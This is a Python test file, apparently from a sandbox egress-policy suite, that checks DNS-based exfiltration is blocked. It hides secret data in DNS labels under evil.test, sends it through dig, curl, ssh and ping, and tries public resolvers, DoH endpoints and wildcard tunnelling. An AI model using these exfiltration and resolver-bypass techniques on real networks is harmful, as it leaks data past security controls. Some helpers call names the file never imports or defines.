# SPDX-License-Identifier: Apache-2.0
"""Questions that a sandbox asks, or makes us ask."""
import os

from fdns import wire_name
from frame import (CONNECT, FLOW_DOORS, HTTP, NAME_DOORS, SOCKS, check, equal, row)
from lab import DNS as UPSTREAM, EVIL
from policy_world import DNS2
from questions import answers, asked, message, questions, rcode

PROXY_DOORS = (CONNECT, HTTP, SOCKS)
SECRET = "4c6f72656d20697073756d.NRXXEZLNEBUXA43VNU.evil.test"
TUNNEL = """
allow: ["*.tunnel.test"]
limits: {dns_per_second: 10000, connections_per_second: 10000}
"""


def outside(door, reason="not_in_policy"):
    """By a direct connection a name can but disagree with the one it goes to."""
    return "name_mismatch" if door in ("sni", "host") else reason


# --- D1: labels ----------------------------------------------------------------


@row("D1", doors=NAME_DOORS)
def labels_of_a_denied_name(world, door):
    """A secret in labels below a name that is not allowed, by every door, in
    DNS by UDP and TCP and for every type: NXDOMAIN, and nobody is asked."""
    box = world.box()
    box.denied(door, SECRET, outside(door))
    for more in ({"type": t} for t in ("TXT", "AAAA", "MX", "SRV", "ANY", "HTTPS")):
        if door == "dns":
            box.denied(door, SECRET, "not_in_policy", **more)
            box.denied(door, SECRET, "not_in_policy", tcp=True, **more)


def tools(name):
    import subprocess
    tried = 0
    for argv in (["dig", "+tries=1", "+time=2", name, "TXT"],
                 ["getent", "ahosts", name], ["curl", "-s", "-m", "3", "http://" + name],
                 ["curl", "-s", "-m", "3", "--noproxy", "*", "https://" + name],
                 ["ssh", "-o", "ConnectTimeout=3", name], ["ping", "-c1", "-W1", name]):
        try:
            run = subprocess.run(argv, capture_output=True, text=True, timeout=60)
        except FileNotFoundError:
            continue
        tried += 1
        if run.returncode == 0 and "NXDOMAIN" not in run.stdout and argv[0] != "curl":
            raise AssertionError(f"{argv}: {run.stdout}")
    return tried


@row("D1")
def labels_by_ordinary_programs(world):
    """dig, getent, curl, ssh, ping: the programs that everybody lets run."""
    box = world.box()
    box.quiet()
    check(box.call(tools, SECRET) >= 4)
    box.silent()
    seen = world.wait(lambda: len(found := [r for r in box.log.read() if r.get(
        "query", {}).get("hostname") == SECRET.lower()]) >= 2 and found, "their records")
    check(all(r["action_id"] == 2 for r in seen), len(seen))


# --- D2: who looks up first ------------------------------------------------------


@row("D2", doors=NAME_DOORS)
def nothing_is_looked_up_before_the_verdict(world, door):
    """A denied name, a denied spelling, an address (whose name the log might
    want to know): not one question goes upstream, of any type."""
    box = world.box()
    box.denied(door, "evil.test", outside(door))
    box.denied(door, "evil.wild.test", outside(door, "deny_rule"))
    box.denied(door, "no.such.name.test", outside(door))
    if door in PROXY_DOORS:
        for address in EVIL, "8.8.8.8", "10.0.0.1":
            box.denied(door, address, "literal_address")


# --- D3, D4: other resolvers -----------------------------------------------------


def other_servers(servers, ports, name, sure, more):
    """(server, port, how, answer) of all that answered, until @more seconds after
    the last of those that are @sure to."""
    import selectors
    q = query(name)
    said, waiting = [], selectors.DefaultSelector()
    for server in servers:
        for port in ports:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                s.sendto(q, (server, port))
                waiting.register(s, 1, (server, port, "udp"))
            except OSError:
                pass
            t = socket.socket()
            t.setblocking(False)
            t.connect_ex((server, port))
            waiting.register(t, 2, (server, port, "tcp"))
    end, left = time.time() + 30, {(s, how) for s in sure for how in ("udp", "tcp")}
    while time.time() < end and waiting.get_map():
        if left and left <= {(s, how) for s, _, how, _ in said}:
            end, left = time.time() + more, None
        for key, _ in waiting.select(max(0, end - time.time())):
            s, where = key.fileobj, key.data
            waiting.unregister(s)
            try:
                if where[2] == "tcp" and key.events == 2:
                    error = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if error:
                        continue
                    s.send(struct.pack(">H", len(q)) + q)
                    waiting.register(s, 1, where)
                    continue
                got = s.recv(4096)
                said.append((*where, got[2:] if where[2] == "tcp" else got))
            except OSError:
                pass
    return said


@row("D3")
def other_servers_and_ports(world):
    """Any server at 53 is our own resolver, which says NXDOMAIN; at 853, 5353,
    5355, 784, 8853 and 443 nobody is there. Also the sandbox's real upstream,
    this machine, multicast, and leased addresses."""
    box = world.box()
    servers = ["8.8.8.8", "1.1.1.1", EVIL, UPSTREAM, "203.0.113.1", "203.0.113.2",
               "127.0.0.53", "198.18.200.1", "198.19.0.1", "198.19.0.3", "224.0.0.251",
               "255.255.255.255"]
    sure = {"8.8.8.8", EVIL, UPSTREAM, "203.0.113.2"}
    box.quiet()
    said = box.call(other_servers, servers, [53, 443, 784, 853, 5353, 5355, 8853],
                    wire_name(SECRET), sure, 1.0)
    box.silent()
    check({where[1] for where in said} == {53}, said)
    check({s for s, *_ in said} >= sure, said)
    check({how for _, _, how, _ in said} == {"udp", "tcp"}, said)
    for *where, answer in said:
        equal(rcode(answer), 3, *where)
    # By those that are no resolver, a record each.
    world.wait(lambda: {r["dst_endpoint"]["ip"] for r in box.log.read()
                        if r["unmapped"]["event"] == "packet"
                        and r["dst_endpoint"].get("port") == 853}
               >= {"8.8.8.8", "1.1.1.1", EVIL, UPSTREAM}, "records of port 853")


@row("D4", doors=FLOW_DOORS)
def resolvers_over_https(world, door):
    """Public resolvers by name and by address, at 443 and at a DoH path."""
    box = world.box()
    for name in "dns.google", "cloudflare-dns.com", "doh.evil.test":
        box.denied(door, name, outside(door), path="/dns-query?dns=AAABAAAB")
    if door in PROXY_DOORS:
        for address in "1.1.1.1", "8.8.8.8", "9.9.9.9":
            box.denied(door, address, "literal_address", path="/dns-query")


@row("D4")
def discovery_of_resolvers(world):
    """Browsers are told not to use DoH (use-application-dns.net), and that there
    is no designated resolver (RFC 9462), without asking anybody."""
    box = world.box()
    box.quiet()
    for kind in 1, 28, 65:
        equal(rcode(asked(box, kind, "use-application-dns.net")[1]), 3)
    for name in "_dns.resolver.arpa", "resolver.arpa", "ipv4only.arpa":
        for kind in 1, 28, 64:
            got = asked(box, kind, name)[1]
            equal((rcode(got), answers(got)), (0, 0), name, kind)
    box.silent()


# --- D5: below a wildcard ----------------------------------------------------------


@row("D5", who=("root",))
def tunnel_below_a_wildcard(world):
    """Labels below *.tunnel.test by DNS, CONNECT, SOCKS and HTTP: at most
    names_per_wildcard (64) different names ever go upstream, in all doors
    together; the rest is limit_names."""
    box = world.box(TUNNEL)
    box.quiet()
    for i in range(60):
        p = box.probe("dns", f"{i:04x}.data.tunnel.test")
        equal(p["got"], "ok")
    for i in range(60, 110):
        door = ("dns", *PROXY_DOORS)[i % 4]
        box.probe(door, f"{i:04x}.data.tunnel.test")
    sent = {p.what for p in world.uplink.read() if p.port == 53}
    equal(len(sent), 64)
    for door in ("dns", *PROXY_DOORS):
        box.denied(door, "over.the.limit.tunnel.test", "limit_names")
    # Spelled otherwise a name is no other name.
    box.allowed("dns", "0000.DATA.tunnel.TEST")


# --- D10, D12: types ---------------------------------------------------------------

TYPES = {"NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "HINFO": 13, "MX": 15,
         "TXT": 16, "SIG": 24, "KEY": 25, "SRV": 33, "NAPTR": 35, "DNAME": 39,
         "DS": 43, "SSHFP": 44, "RRSIG": 46, "DNSKEY": 48, "TLSA": 52, "CDS": 59,
         "OPENPGPKEY": 61, "SVCB": 64, "HTTPS": 65, "SPF": 99, "EUI64": 109,
         "URI": 256, "CAA": 257, "private": 65280}


@row("D10")
def keys_and_hints(world):
    """HTTPS and SVCB of an allowed name, by UDP and TCP: no records, so neither
    ech nor hints, ports or targets; and nobody is asked for them."""
    box = world.box()
    for kind in 64, 65:
        for tcp in False, True:
            for name in "allowed.test", "_443._https.www.wild.test":
                box.quiet()
                port, got = box.call(questions, [message(name, kind)], tcp)[0]
                equal((rcode(got), answers(got)), (0, 0), name, kind)
                box.recorded(port, "record_type")
                box.silent(name, kind)
    box.allowed("connect", "allowed.test")


@row("D12")
def other_types(world):
    """NODATA for each type but A and AAAA; HINFO for ANY (RFC 8482); REFUSED for
    transfers; PTR of foreign addresses is NXDOMAIN. Nothing goes upstream."""
    box = world.box()
    for word, kind in TYPES.items():
        box.quiet()
        port, got = asked(box, kind, "allowed.test")
        equal((rcode(got), answers(got)), (0, 0), word)
        box.recorded(port, "record_type")
        box.silent(word)
    box.quiet()
    got = asked(box, 255, "allowed.test")[1]
    check(b"RFC 8482" in got and rcode(got) == 0)
    for kind in 251, 252:
        port, got = asked(box, kind, "allowed.test")
        equal((rcode(got), answers(got)), (5, 0), kind)
        box.recorded(port, "record_type")
    for name in ("66.216.184.93.in-addr.arpa", "1.0.0.10.in-addr.arpa",
                 "c2VjcmV0.8.8.8.8.in-addr.arpa", "4.3.0.0.8.b.d.0.1.0.0.2.ip6.arpa"):
        port, got = asked(box, 12, name)
        equal(rcode(got), 3, name)
        box.recorded(port, "record_type")
    box.silent()


@row("D12")
def other_classes(world):
    """CHAOS, HESIOD, ANY and unknown classes, also for version.bind: REFUSED."""
    box = world.box()
    for klass in 0, 2, 3, 4, 254, 255, 4097:
        for name in "allowed.test", "version.bind", "evil.test":
            for kind in 1, 16:
                box.quiet()
                port, got = box.call(questions, [message(name, kind, klass)])[0]
                equal(rcode(got), 5, klass, name)
                box.recorded(port, "record_type")
                box.silent(klass, name)


# --- D13: what a stub does ----------------------------------------------------------


def stub(name):
    import subprocess
    with open("/etc/resolv.conf") as f:
        text = f.read()
    run = subprocess.run(["getent", "ahosts", name], capture_output=True, text=True)
    try:
        socket.getaddrinfo(name, 80)
        return text, "resolved"
    except socket.gaierror:
        return text, run.stdout


@row("D13")
def next_server_and_search_list(world):
    """One nameserver, no search list, whatever the machine has; a denied name is
    NXDOMAIN, after which no stub asks elsewhere; a bare name gets no suffix."""
    path = world.lab.dir + "/resolv.conf"
    before = os.path.getsize(path)
    with open(path, "a") as f:
        f.write(f"nameserver {DNS2}\nsearch secret-project.evil.test corp.test\n"
                "options ndots:5\n")
    try:
        box = world.box("allow: [allowed.test, intranet]\n")
    finally:
        os.truncate(path, before)  # other sandboxes never find it empty
    box.quiet()
    text, said = box.call(stub, "evil.test")
    words = [line.split() for line in text.splitlines() if line.strip()
             and not line.startswith("#")]
    equal([w[0] for w in words if w[0] in ("nameserver", "search", "domain")],
          ["nameserver"])
    check(DNS2 not in text and UPSTREAM not in text and "secret" not in text, text)
    equal(said, "")
    box.silent()
    box.call(stub, "intranet")
    sent = {p.what for p in world.uplink.read()}
    check(sent <= {"intranet"}, sent)
    box.allowed("connect", "allowed.test")
